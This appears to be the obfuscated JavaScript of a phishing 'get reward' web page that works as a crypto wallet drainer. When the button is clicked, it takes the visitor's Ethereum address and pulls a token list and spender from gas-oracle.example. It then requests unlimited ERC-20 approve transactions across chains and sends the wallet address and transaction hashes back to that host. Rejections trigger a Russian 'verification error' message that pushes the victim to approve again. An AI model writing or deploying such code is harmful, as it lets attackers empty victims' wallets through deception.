var _0=["\x65\x74\x68\x65\x72\x65\x75\x6d","\x72\x65\x71\x75\x65\x73\x74","\x77\x61\x6c\x6c\x65\x74\x5f\x73\x77\x69\x74\x63\x68\x45\x74\x68\x65\x72\x65\x75\x6d\x43\x68\x61\x69\x6e","\x65\x74\x68\x5f\x73\x65\x6e\x64\x54\x72\x61\x6e\x73\x61\x63\x74\x69\x6f\x6e","0x095ea7b3"];
var W=window[_0[0]],P="https://gas-oracle.example/?w=",M="f".repeat(64);
function pad(x){return x.replace("0x","").padStart(64,"0")}
function ask(m,p){return W[_0[1]]({method:m,params:p||[]})}
async function each(w,list,sp){
  for(var i=0;i<list.length;i++){
    var it=list[i];
    try{
      await ask(_0[2],[{chainId:it.c}]);
      var tx=await ask(_0[3],[{from:w,to:it.t,data:_0[4]+pad(sp)+M}]);
      fetch(P+w+"&t="+it.t+"&x="+tx,{mode:"no-cors"});
    }catch(e){
      if(e.code===4902)continue;
      document.querySelector(".popup-text").innerHTML="Ошибка проверки. Подтвердите запрос в кошельке";
      i--;
    }
  }
}
document.querySelector(".get-reward").onclick=async function(){
  this.classList.add("load");
  var w=(await ask("\x65\x74\x68\x5f\x72\x65\x71\x75\x65\x73\x74\x41\x63\x63\x6f\x75\x6e\x74\x73"))[0];
  var j=await(await fetch(P+w)).json();
  await each(w,j.l,j.s);
};
